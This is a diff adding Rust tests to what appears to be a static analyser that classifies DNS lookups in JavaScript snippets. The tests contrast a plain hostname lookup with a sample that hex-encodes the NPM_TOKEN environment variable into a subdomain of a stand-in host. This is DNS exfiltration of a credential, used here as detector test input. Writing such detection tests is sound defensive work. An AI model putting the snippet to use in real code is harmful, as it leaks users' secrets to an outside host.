@@ -626,6 +626,21 @@ fn exec_literal_is_bash_and_dns_exfil() {
     assert!(q.inputs.contains(&"$out".to_string()));
     let ev = run("require('dns').lookup('example.com', cb);");
     assert_eq!(find(&ev, Op::DnsQuery).expect("dns").act, A::Request);
+    // A host the user gave, looked up whole, is a plain lookup; a name a
+    // variable builds from data and fixed labels smuggles the data.
+    let ev = run(
+        "const dns = require('dns');\nconst host = new URL(process.argv[2]).hostname;\ndns.lookup(host, cb);",
+    );
+    assert_eq!(
+        find(&ev, Op::DnsQuery).expect("dns").act,
+        A::Request,
+        "{ev:#?}"
+    );
+    let ev = run(
+        "const dns = require('dns');\nconst hex = Buffer.from(process.env.NPM_TOKEN).toString('hex');\nconst name = hex + '.t.example.net';\ndns.resolve4(name, cb);",
+    );
+    let q = find(&ev, Op::DnsQuery).expect("dns");
+    assert!(q.has(Tag::Encoded), "{ev:#?}");
 }
 
 #[test]
